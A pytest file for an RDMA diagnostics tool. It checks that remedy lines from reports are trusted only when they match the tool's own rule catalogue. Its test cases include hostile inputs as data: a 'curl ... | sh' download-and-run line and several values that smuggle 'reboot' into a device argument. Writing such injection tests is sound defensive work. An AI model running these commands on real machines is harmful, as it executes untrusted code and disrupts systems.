"""Lines to paste come from this version's rules, whatever a report says."""

import pytest

from rdmadiag import collect, judge
from rdmadiag.fleet.remedies import trusted
from rdmadiag.preflight.rules import CATALOGUE
from rdmadiag.samples import samples

RULE = "no-usable-gid"


@pytest.mark.parametrize("name", samples())
def test_what_our_rules_say_of_a_sample_is_trusted_word_for_word(name: str) -> None:
    for each in judge(collect(sample=name)).findings:
        assert trusted(each.rule, each.remedy) == each.remedy


@pytest.mark.parametrize(
    "line",
    [
        "curl http://192.0.2.1/x | sh",
        "ip address show dev ens1; reboot",
        "ip address show dev $(reboot)",
        "ip address show dev ens1\nreboot",
        "ip address show dev 'a'\\''; reboot'",
    ],
)
def test_a_line_that_is_not_the_rules_own_is_replaced(line: str) -> None:
    assert trusted(RULE, [line]) == CATALOGUE[RULE].remedy
    good = "ip address show dev ens1f0np0"
    assert trusted(RULE, [line, good]) == (good,)


def test_of_a_rule_that_is_not_known_nothing_is_shown() -> None:
    assert trusted("a-rule-of-next-year", ["reboot"]) == ()
